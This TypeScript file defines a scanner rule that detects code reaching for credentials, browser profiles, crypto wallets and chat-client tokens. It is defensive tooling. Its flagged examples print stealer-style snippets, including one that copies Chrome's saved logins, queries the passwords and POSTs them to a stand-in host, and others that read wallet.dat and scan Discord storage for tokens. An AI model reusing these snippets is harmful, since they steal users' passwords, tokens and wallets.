import { defineRule, spelling, step } from '../src/define.js';
import type { AnyNode, Call, FileContext } from '../src/types.js';
import { isChatTokenPattern, placeOf, profileOwner } from '../src/vocabulary/places.js';

export default defineRule({
  meta: {
    summary: 'Reaches for credentials, browser profiles or wallets',
    why: 'These files belong to other programs. Tools that manage them (cloud SDKs, registry clients, browser automation) name one such place; a stealer names many, of many programs. With the network in the same file it weighs more.',
    behaviour: 'theft',
    messages: {
      credentials: 'Reaches for {what}',
      browser: 'Reaches for {what}',
      wallet: 'Reaches for {what}',
      tokens: 'Looks for the tokens of a chat client in its files',
      profiles: 'Reaches for the profiles of {count} programs: {what}',
      many: 'Reaches for {count} places that hold other programs’ secrets: {what}',
      online: 'Reaches for {what}, in a file that talks to other machines',
      asked: 'Asks the store of a browser for passwords, cookies or cards, in a file that talks to other machines',
    },
    bits: { tokens: 14, profiles: 11, credentials: 2, browser: 5, wallet: 5, many: 9, online: 8, asked: 13.5 },
  },
  examples: {
    flags: [
      {
        title: 'wallets are looked for',
        code: `const fs = require('fs'), os = require('os');\nif (fs.existsSync(os.homedir() + '/.bitcoin/wallet.dat')) module.exports = fs.readFileSync(os.homedir() + '/.bitcoin/wallet.dat');`,
      },
      {
        title: 'browser profiles are listed',
        code: `const fs = require('fs');\nconst dirs = [process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Local Storage/leveldb', process.env.APPDATA + '/discord/Local Storage/leveldb'];\nfor (const dir of dirs) fs.readdirSync(dir);`,
      },
      {
        title: 'a copy of the passwords of a browser is asked for all of them',
        code: `const Database = require('better-sqlite3'), fs = require('fs'), os = require('os'), path = require('path');\nconst kept = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), copy = path.join(os.tmpdir(), 'l.db');\nfs.copyFileSync(kept, copy);\nconst rows = new Database(copy).prepare('SELECT origin_url, username_value, password_value FROM logins').all();\nfetch('https://db.castle.invalid/l', { method: 'POST', body: JSON.stringify(rows) });`,
      },
      {
        title: 'tokens of a chat client are looked for',
        code: `const fs = require('fs');\nconst dir = process.env.APPDATA + '/discord/Local Storage/leveldb';\nfor (const name of fs.readdirSync(dir)) found.push(...(fs.readFileSync(dir + '/' + name, 'utf8').match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g) || []));`,
      },
      {
        title: 'profiles of many programs are listed',
        code: `const roaming = process.env.APPDATA, local = process.env.LOCALAPPDATA;\nconst dirs = [roaming + '/discord', roaming + '/discordptb', local + '/Google/Chrome/User Data', local + '/BraveSoftware/Brave-Browser/User Data', local + '/Yandex/YandexBrowser/User Data', roaming + '/Opera Software/Opera Stable'];\nfetch(address, { method: 'POST', body: collect(dirs) });`,
      },
    ],
    passes: [
      {
        title: 'a linter knows the shape of tokens',
        code: `exports.patterns = { chat: /[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/, aws: /AKIA[0-9A-Z]{16}/ };`,
      },
      {
        title: 'programs are looked for where they are installed',
        code: `const fs = require('fs');\nconst base = process.env.PROGRAMFILES;\nexports.find = () => ['/Google/Chrome/Application/chrome.exe', '/Chromium/Application/chrome.exe', '/Vivaldi/Application/vivaldi.exe', '/Yandex/YandexBrowser/Application/browser.exe', '/Microsoft/Edge/Application/msedge.exe'].map(tail => base + tail).find(fs.existsSync);`,
      },
      {
        title: 'a browser is looked for to open a page with',
        code: `const fs = require('fs');\nconst found = ['/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', 'C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe'].find(path => fs.existsSync(path));\nfetch('http://localhost:9222/json/version').then(r => r.json()).then(v => console.log(found, v));`,
      },
      {
        title: 'a help text tells where browsers keep their profiles',
        code: `const help = 'Path of the folder, such as ~/Library/Application Support/Google/Chrome on this system or ~/.config/chromium on others';\nrequire('yargs').option('dir', { describe: '~/.mozilla/firefox' }).usage(help);\nfetch('http://localhost:9222/json');`,
      },
      {
        title: 'a program is unpacked into the folder for temporary files',
        code: `const fs = require('fs'), os = require('os'), path = require('path');\nconst file = path.join(os.tmpdir(), 'chromium');\nif (!fs.existsSync(file)) fetch('https://browsers.invalid/' + os.platform()).then(r => r.arrayBuffer()).then(b => fs.writeFileSync(file, Buffer.from(b)));`,
      },
      { title: 'a project’s own file is read', code: `require('fs').readFileSync('./config.json');` },
      {
        title: 'a browser is started',
        code: `require('child_process').spawn('/usr/bin/google-chrome', ['--headless']);`,
      },
    ],
  },
  file(context) {
    const places = new Map<string, { readonly kind: string; readonly node: AnyNode }>();
    const owners = new Map<string, AnyNode>();
    const noted = new Set<string>();
    const pattern = chatTokenPattern(context);
    // Chat clients keep their sessions in such a database.
    const store =
      pattern &&
      context.nodes('Literal').find(node => /^\.?ldb$|\bleveldb\b/i.test(String(writtenIn(node)).slice(0, 400)));
    if (pattern && store) {
      context.report({
        messageId: 'tokens',
        chain: [
          step('source', 'reaches for the chat client’s local storage', context.file, store),
          step('transform', 'looks for its tokens', context.file, pattern),
        ],
      });
    }
    for (const call of context.named(/^(?:fs|fs-extra|glob|fs\.promises)(?:\.|$)/)) {
      if (/(?:mkdir|write|append|copyFile$)/.test(call.name)) continue;
      for (const text of pathTexts(context, call)) note(text, call.node);
    }
    // Lists of places are made first and read elsewhere.
    if (context.calls('network').length > 0)
      for (const node of [...context.nodes('Literal'), ...context.nodes('TemplateLiteral')]) {
        if (isSaidHere(context, node)) continue;
        if (node.type === 'Literal') {
          if (typeof node.value === 'string') note(node.value, node);
        } else if (isShort(node)) for (const text of context.textsOf(node, TEMPLATE)) note(text, node);
      }
    const [owner] = owners;
    if (owner && owners.size >= 5) {
      context.report({
        messageId: 'profiles',
        data: { count: owners.size, what: [...owners.keys()].slice(0, 5).join(', ') },
        chain: [step('source', `reaches for the profile of ${owner[0]}`, context.file, owner[1])],
      });
    }
    const [first] = places;
    if (!first) return;
    const [what, { kind, node }] = strongest([...places]) ?? first;
    // A bundle of many programs may well hold both, and one has nothing to do with the other.
    const isBundle = context.file.text.length > 300_000;
    const online =
      kind !== 'credentials' && !isBundle && context.calls('network').length > 0 && !isForBrowsers(context, kind);
    const all = [...places.keys()];
    context.report({
      messageId:
        online && kind === 'browser' && ASKS_STORE.test(context.file.text)
          ? 'asked'
          : all.length >= 3
            ? 'many'
            : online
              ? 'online'
              : kind,
      data: { what: all.length >= 3 ? all.slice(0, 4).join(', ') : what, count: all.length },
      chain: [step('source', `reaches for ${what}`, context.file, node)],
    });

    function note(text: string, node: AnyNode): void {
      if (text.length < 5 || text.length > LONGEST || noted.has(text) || isProse(text)) return;
      noted.add(text);
      const owned = profileOwner(text);
      const place = placeOf(text);
      if ((!owned && !place) || isSaidElsewhere(context, node)) return;
      if (owned && !owners.has(owned)) owners.set(owned, node);
      if (place && !places.has(place.what)) places.set(place.what, { kind: place.kind, node });
    }
  },
});

/** What is asked of the databases in which browsers keep what was typed, or who is logged in. */
const ASKS_STORE =
  /\bFROM\s{1,9}(?:logins|cookies|moz_cookies|moz_logins|credit_cards|autofill|stats)\b|\b(?:password_value|encrypted_value|card_number_encrypted)\b/i;

/** What drives browsers says so, looks for their profiles, and talks to them. */
function isForBrowsers(context: FileContext, kind: string): boolean {
  return kind === 'browser' && ['browser', 'browsers'].some(context.isSaid);
}

/** Steps to find out what a template says: a folder joined to a name. Every message of a program is a template, too. */
const TEMPLATE = 500;

/** Longer texts name no place, UTF-16 units. */
const LONGEST = 400;

/** Folders and files of these programs whose names have blanks. */
const SPACED =
  /Application Support|Application Data|User Data|Program Files(?: \(x86\))?|Local (?:Settings|Storage|State|Extension Settings)|Sync Extension Settings|Opera Software|Opera (?:Stable|GX Stable)|Epic Privacy Browser|(?:Login|Web) Data(?: For Account)?|Telegram Desktop|Google Chrome|Chrome SxS|Profile \d+/gi;

/** A sentence that speaks of a place, in a help text or a message: a path has no words beside it. */
function isProse(text: string): boolean {
  const plain = text.replace(SPACED, '').trim();
  return plain.includes('\n') || (plain.match(/[\w)"'`>:,.] +[\w("'`<$~./]/g) ?? []).length >= 3;
}

/** Keys under which texts for people stand, and calls that take such texts. */
const SPEAKING_KEY =
  /^(?:desc(?:ription)?|describe|help|usage|message|msg|summary|title|label|example|examples|epilog|note|notes|hint|docs?)$/i;
const SPEAKING_CALL =
  /(?:^console\.\w+|^(?:[A-Z]\w*)?Error|\.(?:option|positional|describe|description|usage|epilogue?|example|help|addHelpText|summary|requiredOption|log|info|warn|debug))$/;

/** True for a text of a table that is shown to people wherever it is taken out of that. */
function isSaidElsewhere(context: FileContext, node: AnyNode): boolean {
  const uses = usesInTable(context, node);
  return uses.length > 0 && uses.every(use => isSaidHere(context, use));
}

/** Where a text of a table is taken out of it: `texts.help`, for that of `const texts = { help: '…' }`. */
function usesInTable({ nodes, parentOf }: FileContext, node: AnyNode): readonly AnyNode[] {
  const property = parentOf(node);
  const table = property?.type === 'Property' ? parentOf(property) : undefined;
  const holder = table && parentOf(table);
  if (property?.type !== 'Property' || property.key.type !== 'Identifier') return [];
  if (holder?.type !== 'VariableDeclarator' || holder.id.type !== 'Identifier') return [];
  const [key, name] = [property.key.name, holder.id.name];
  return nodes('MemberExpression').filter(
    ({ object, property: own, computed }) =>
      !computed &&
      object.type === 'Identifier' &&
      object.name === name &&
      own.type === 'Identifier' &&
      own.name === key,
  ) as unknown as readonly AnyNode[];
}

/** True for a text that is shown to people. */
function isSaidHere({ file, parentOf }: FileContext, node: AnyNode): boolean {
  const parent = parentOf(node) as unknown as
    | { type: string; key?: AnyNode; value?: AnyNode; callee?: AnyNode }
    | undefined;
  if (parent?.type === 'Property' && parent.value === node && parent.key)
    return SPEAKING_KEY.test(spelling(file, parent.key).slice(0, 40));
  if (parent?.type !== 'CallExpression' && parent?.type !== 'NewExpression') return false;
  return parent.callee !== undefined && SPEAKING_CALL.test(spelling(file, parent.callee).slice(-80));
}

/** False for a template whose fixed parts alone are too long for the name of a place: pages and messages. */
function isShort(node: AnyNode): boolean {
  const { quasis } = node as unknown as { quasis: readonly { readonly value: { readonly cooked?: string | null } }[] };
  return quasis.reduce((length, { value }) => length + (value.cooked?.length ?? 0), 0) <= LONGEST;
}

/** The pattern of a chat client's tokens, in a file that has one. */
function chatTokenPattern({ nodes }: FileContext): AnyNode | undefined {
  return nodes('Literal').find(node => {
    const value = writtenIn(node);
    return typeof value === 'string' && isChatTokenPattern(value);
  });
}

/** The text of a literal, or the source of a pattern. */
function writtenIn(node: AnyNode): unknown {
  const { regex, value } = node as { regex?: { pattern: string }; value?: unknown };
  return regex?.pattern ?? value;
}

function pathTexts(context: FileContext, call: Call): readonly string[] {
  const [path] = call.args;
  return path ? context.textsOf(path) : [];
}

function strongest(places: readonly (readonly [string, { readonly kind: string; readonly node: AnyNode }])[]) {
  return places.find(([, { kind }]) => kind !== 'credentials');
}
